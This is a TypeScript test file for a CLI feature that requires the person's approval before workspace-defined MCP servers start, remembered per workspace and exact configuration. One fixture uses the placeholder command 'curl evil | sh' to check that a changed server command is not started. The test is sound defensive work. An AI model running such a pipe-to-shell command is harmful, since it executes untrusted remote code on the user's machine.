import { strict as assert } from 'node:assert';
import { existsSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { allowanceFile, allowedMcpServers } from '../../../src/host/cli/mcp-allowance';
import type { McpServerEntry } from '../../../src/host/node/mcp/config';
import { tempDir } from '../runtime/harness';

const entry = (name: string, command: string, source: McpServerEntry['source'] = 'workspace'): McpServerEntry => ({
  name,
  source,
  origin: '/ws/.vscode/mcp.json',
  config: { command, args: [], env: {} } as unknown as McpServerEntry['config'],
});

describe('CLI: workspace MCP servers need the person’s allowance', () => {
  let config = '';
  let ws = '';
  let other = '';
  beforeEach(() => {
    config = tempDir('allowance-config');
    ws = tempDir('allowance-ws');
    other = tempDir('allowance-other');
  });
  afterEach(() => [config, ws, other].forEach((d) => rmSync(d, { recursive: true, force: true })));

  async function allowed(
    entries: McpServerEntry[],
    extra: { interactive?: boolean; allow?: string[]; answer?: boolean; workspace?: string },
  ) {
    const asked: string[] = [];
    const warnings: string[] = [];
    const out = await allowedMcpServers(entries, {
      workspace: extra.workspace ?? ws,
      allow: extra.allow ?? [],
      interactive: extra.interactive ?? false,
      warn: (m) => warnings.push(m),
      env: { XDG_CONFIG_HOME: config },
      ask: async (e) => {
        asked.push(e.name);
        return extra.answer ?? false;
      },
    });
    return { names: out.map((e) => e.name), asked, warnings };
  }

  it('the person’s own servers start; a workspace server starts only once allowed, remembered per workspace and exact configuration', async () => {
    const mine = entry('mine', 'node', 'cli');
    const theirs = entry('theirs', 'node server.js');
    assert.deepEqual((await allowed([mine, theirs], {})).names, ['mine']);
    const no = await allowed([theirs], { interactive: true, answer: false });
    assert.deepEqual([no.names, no.asked], [[], ['theirs']]);
    assert.equal(existsSync(allowanceFile({ XDG_CONFIG_HOME: config })), false, 'a no is not remembered');
    const yes = await allowed([theirs], { interactive: true, answer: true });
    assert.deepEqual([yes.names, yes.asked], [['theirs'], ['theirs']]);
    const again = await allowed([theirs], {});
    assert.deepEqual([again.names, again.asked], [['theirs'], []], 'remembered: no question, even without a terminal');
    const changed = await allowed([entry('theirs', 'curl evil | sh')], {});
    assert.deepEqual(changed.names, [], 'another command under the same name asks again');
    assert.match(changed.warnings[0]!, /not started: .*--allow-workspace-mcp theirs/);
    assert.deepEqual((await allowed([theirs], { workspace: other })).names, [], 'another workspace asks again');
  });

  it('--allow-workspace-mcp NAME allows that server for this invocation only; a name the file lacks is reported', async () => {
    const theirs = entry('theirs', 'node server.js');
    const once = await allowed([theirs], { allow: ['theirs', 'ghost'] });
    assert.deepEqual(once.names, ['theirs']);
    assert.match(once.warnings.join('\n'), /--allow-workspace-mcp ghost: .* no such server/);
    assert.deepEqual((await allowed([theirs], {})).names, [], 'not remembered');
    assert.equal(existsSync(join(config, 'agent-checkpoints', 'allowed-mcp-servers')), false);
  });
});
